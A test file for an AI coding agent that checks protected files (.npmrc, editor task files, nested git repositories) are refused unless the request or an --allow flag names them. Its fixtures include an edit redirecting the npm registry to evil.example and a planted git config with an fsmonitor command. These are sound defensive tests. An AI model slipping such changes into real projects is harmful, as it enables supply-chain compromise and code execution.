import { existsSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { type Behaviour, type ModelServer, reply, startModelServer, toolReply } from '../../helpers/model-server.ts'
import { runRepose } from '../../helpers/run-repose.ts'
import { read, scratchRepo, write } from '../../repo/scratch-repo.ts'

let root: string
let server: ModelServer | undefined
beforeEach(() => {
  root = scratchRepo({
    'src/price.ts': 'export const price = 1\n',
    'src/order.ts': 'export const order = 1\n',
    '.npmrc': 'registry=https://registry.npmjs.org\n',
    '.gitignore': 'out/\n',
  })
})
afterEach(async () => {
  await server?.close()
  server = undefined
})

interface Result {
  stop: string
  reason: string | null
  fix: string | null
  modified: string[]
  created: string[]
  notes: string[]
  protected: { changed: object[]; refused: object[] }
}

async function implement(request: string, replies: readonly Behaviour[], ...args: string[]) {
  server = await startModelServer(replies)
  const run = await runRepose(['implement', request, ...args], {
    cwd: root,
    env: { OPENAI_BASE_URL: server.baseUrl, REPOSE_MODEL: 'scripted' },
  })
  const prompts = server.requests.map(({ body }) => JSON.stringify(body.messages))
  return { ...run, prompts, result: run.stdout.startsWith('{') ? (JSON.parse(run.stdout) as Result) : null }
}

const repose = (...args: readonly string[]) => runRepose(args, { cwd: root, env: {} })

const edit = (path: string, find: string, replacement: string) =>
  `@@ replace ${path}\n<<<<<<< find\n${find}\n======= replace\n${replacement}\n>>>>>>> end\n`
const PRICE = edit('src/price.ts', 'price = 1', 'price = 2')
const NPMRC = edit('.npmrc', 'registry=https://registry.npmjs.org', 'registry=https://evil.example')
const LOOK = reply('open src/price.ts\nopen .npmrc\nopen .gitignore\n')

test('a protected file is not changed unasked: the model is told, the rest is applied, and the user learns of it', async () => {
  const { code, prompts, result } = await implement(
    'Raise the price',
    [LOOK, reply(PRICE + NPMRC), reply('complete')],
    '--json',
  )
  expect(code).toBe(0)
  expect(result).toMatchObject({ stop: 'done', modified: ['src/price.ts'], protected: { changed: [] } })
  expect(result!.protected.refused).toEqual([
    { path: '.npmrc', why: expect.stringContaining('a package manager'), allowedBy: null },
  ])
  expect(result!.notes.join('\n')).toMatch(/\.npmrc was not changed: it is protected \(.*--allow \.npmrc/)
  expect(prompts[2]).toContain('.npmrc is protected (a package')
  expect(prompts[2]).not.toContain('price = 2') // only what is at fault goes back
  expect(read(root, '.npmrc')).toContain('npmjs.org')
  expect(read(root, 'src/price.ts')).toContain('2')
})

test.each(['@@ note the registry stays', '@@ note the registry stays\ncomplete', 'complete'])(
  'a model may leave it out with a note, or with the word for it: %j',
  async (last) => {
    const { code, result } = await implement('Raise the price', [LOOK, reply(PRICE + NPMRC), reply(last)], '--json')
    expect(code).toBe(0)
    expect(result).toMatchObject({ modified: ['src/price.ts'] })
    expect(result!.notes[0]).toMatch(last === 'complete' ? /^\.npmrc was not changed/ : /^the registry stays$/)
  },
)

test('a request that names it allows it, and the result is marked', async () => {
  const { code, stderr } = await implement(
    'Raise the price, and set the registry in .npmrc',
    [LOOK, reply(PRICE + NPMRC)],
    '--effort',
    'low',
  )
  expect(code).toBe(0)
  expect(stderr).toMatch(/^ {2}M \.npmrc {2}\(protected; the request names it\)$/m)
  expect(stderr).toMatch(/^ {2}M src\/price\.ts$/m)
  expect(read(root, '.npmrc')).toContain('evil')
})

test('so does --allow, of a file or of a folder, several times', async () => {
  const create = '@@ create .vscode/tasks.json\n<<<<<<< text\n{}\n>>>>>>> end\n'
  const { code, result } = await implement(
    'Raise the price',
    [LOOK, reply(NPMRC + create)],
    ...['--allow', '.npmrc', '--allow', '.vscode', '--json'],
  )
  expect(code).toBe(0)
  expect(result!.protected).toEqual({
    changed: [
      { path: '.npmrc', why: expect.any(String), allowedBy: 'user' },
      { path: '.vscode/tasks.json', why: expect.any(String), allowedBy: 'user' },
    ],
    refused: [],
  })
})

test('where nothing else was changed, it says why and what to do', async () => {
  const { code, stderr } = await implement('Raise the price', [LOOK, reply(NPMRC), reply('complete')])
  expect(code).toBe(1)
  expect(stderr).toContain('error: the agent changed nothing, since what it meant to change is protected\n')
  expect(stderr).toContain('fix:   if that is wanted, name it in the request, or allow it: --allow .npmrc\n')
})

test('a model that insists ends the run, and nothing is applied', async () => {
  const { code, result } = await implement(
    'Raise the price',
    [LOOK, ...Array<Behaviour>(4).fill(reply(PRICE + NPMRC))],
    ...['--json', '--effort', 'low'],
  )
  expect(code).toBe(1)
  expect(result).toMatchObject({ stop: 'out-of-turns', fix: expect.stringContaining('--allow .npmrc') })
  expect(read(root, 'src/price.ts')).toContain('1')
})

test('the agent with tools is told the same', async () => {
  const use = (name: string, args: object) => toolReply({ name, arguments: JSON.stringify(args) })
  const { code, prompts, result } = await implement(
    'Raise the price',
    [
      use('look', { lines: 'open src/price.ts\nopen .npmrc' }),
      use('edit', { edits: PRICE + NPMRC }),
      use('edit', { edits: PRICE }),
      use('done', { note: 'raised' }),
    ],
    ...['--effort', 'high', '--json'],
  )
  expect(code).toBe(0)
  expect(prompts[2]).toMatch(/refused as a whole:.*\.npmrc is protected \(/)
  expect(result).toMatchObject({ modified: ['src/price.ts'], protected: { refused: [{ path: '.npmrc' }] } })
})

test.each(['../x', '/etc', ' '])('--allow %j is refused before anything is paid', async (path) => {
  const { code, stderr } = await implement('Raise the price', [], '--allow', path)
  expect(code).toBe(2)
  expect(stderr).toMatch(/^error: --allow takes [^\n]*\nfix: [^\n]*\n$/)
  expect(server!.requests).toEqual([])
  expect(existsSync(join(root, '.git/repose/transcripts'))).toBe(false)
})

const create = (path: string, text: string) => `@@ create ${path}\n<<<<<<< text\n${text}\n>>>>>>> end\n`

test('no HEAD is made below the top folder: the other parts of a repository may come later', async () => {
  const bare =
    create('demo/HEAD', 'ref: refs/heads/main') +
    create('demo/config', '[core]\n\tfsmonitor = touch ran') +
    create('demo/objects/.keep', 'x') +
    create('demo/refs/.keep', 'x')
  const replies = [LOOK, reply(PRICE + bare), reply('complete')]
  const { result } = await implement('Raise the price', replies, '--json')
  expect(result!.protected.refused).toMatchObject([{ path: 'demo/HEAD' }])
  expect(existsSync(join(root, 'demo/HEAD'))).toBe(false)
  rmSync(join(root, 'demo'), { recursive: true })
  await server?.close()
  const allowed = await implement('Raise the price', replies, '--json', '--allow', 'demo')
  expect(allowed.code).toBe(0)
  expect(existsSync(join(root, 'demo/config'))).toBe(true)
})

test('new files that form a repository together with ignored files are protected', async () => {
  for (const path of ['objects/a.o', 'HEAD']) write(root, `assets/${path}`, 'x\n')
  write(root, '.gitignore', 'out/\nobjects/\nHEAD\n')
  const parts = create('assets/refs/keep', 'x') + create('assets/config', '[core]')
  const { code, result } = await implement('Raise the price', [LOOK, reply(PRICE + parts), reply('complete')], '--json')
  expect(code).toBe(1)
  expect(result).toMatchObject({ reason: 'changed without permission: assets/config, assets/refs/keep (protected)' })
  expect(existsSync(join(root, 'assets/config'))).toBe(false)

  const kept = await repose('apply', '1')
  expect(kept).toMatchObject({ code: 1, stdout: '' })
  expect(kept.stderr).toContain('it changes protected files: assets/config, assets/refs/keep')
  expect((await repose('apply', '1', '--branch', 'parts')).code).toBe(1)
  expect(existsSync(join(root, 'assets/config'))).toBe(false)
  expect((await repose('apply', '1', '--yes')).code).toBe(0)
  expect(existsSync(join(root, 'assets/config'))).toBe(true)
})

test('a dry run that changed protected files prints no diff, which another program could apply, and keeps it', async () => {
  for (const path of ['objects/a.o', 'HEAD']) write(root, `assets/${path}`, 'x\n')
  write(root, '.gitignore', 'out/\nobjects/\nHEAD\n')
  const parts = create('assets/refs/keep', 'x') + create('assets/config', '[core]')
  const run = await implement('Raise the price', [LOOK, reply(PRICE + parts), reply('complete')], '--dry-run')
  expect(run).toMatchObject({ code: 1, stdout: '' })
  expect((await repose('apply', '1', '--dry-run')).stdout).toContain('+++ b/assets/config')
})
